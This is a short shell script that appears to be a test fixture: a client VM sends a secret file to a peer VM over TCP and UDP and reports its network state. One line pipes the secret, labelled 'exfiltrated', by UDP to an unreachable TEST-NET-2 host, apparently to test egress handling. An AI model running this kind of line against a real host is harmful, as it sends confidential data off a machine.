#!/bin/sh
# SPDX-License-Identifier: GPL-2.0
#
# Network scenario, guest 2: the client. Reads its secret (see ./secrets)
# and sends it to vm1 over TCP (busybox nc) and UDP (lt-udp), then one UDP
# datagram out of the LAN, to 198.51.100.7:9999 (TEST-NET-2: nobody; the
# default route's gateway 10.0.0.254 does not exist either, so it is lost).
secret=/scenario/files/secret.txt
echo "vm2: LT_IP=$LT_IP"
ip -4 addr show dev eth0 | sed -n 's/^ *inet \([0-9.]*\/[0-9]*\).*/vm2: eth0 inet \1/p'
ip route show | sed 's/^/vm2: route /'

# vm1 boots at the same time: retry until it listens.
i=0
until nc -w 2 10.0.0.1 5000 <"$secret" >/tmp/reply.txt 2>/dev/null; do
	i=$((i + 1))
	[ $i -lt 60 ] || { echo "vm2: could not connect to 10.0.0.1:5000"; exit 1; }
	sleep 1
done
echo "vm2: tcp connected after $i retries"
echo "vm2: tcp reply: $(cat /tmp/reply.txt)"

lt-udp 10.0.0.1 6000 <"$secret"
echo "vm2: udp to vm1 exit $?"

echo "exfiltrated: $(cat "$secret")" | lt-udp 198.51.100.7 9999
echo "vm2: udp out exit $?"

# /etc/hosts names the guests.
if ping -c 1 -W 5 vm1 >/dev/null 2>&1; then
	echo "vm2: ping vm1 ok"
else
	echo "vm2: ping vm1 failed"
fi
